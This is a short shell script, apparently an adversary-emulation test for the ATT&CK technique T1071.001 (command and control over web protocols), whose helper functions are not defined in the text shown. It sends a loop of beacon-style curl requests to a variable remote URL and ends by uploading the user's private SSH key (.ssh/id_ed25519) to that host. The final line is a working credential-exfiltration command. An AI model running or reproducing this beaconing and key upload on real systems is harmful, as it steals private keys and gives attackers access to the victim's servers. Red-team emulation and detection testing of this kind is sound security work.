# T1071.001 by curl.
groundwork
hide_copy
rnd 2 4; n=$r
while [ "$n" -gt 0 ]; do
    rnd 2 5
    curl -s -o "$copy.answer" "$url/beat-[1-$r]?size=64"
    sleep 0.01
    n=$((n - 1))
done
curl -s -H Expect: -o /dev/null -T .ssh/id_ed25519 "$url/put"
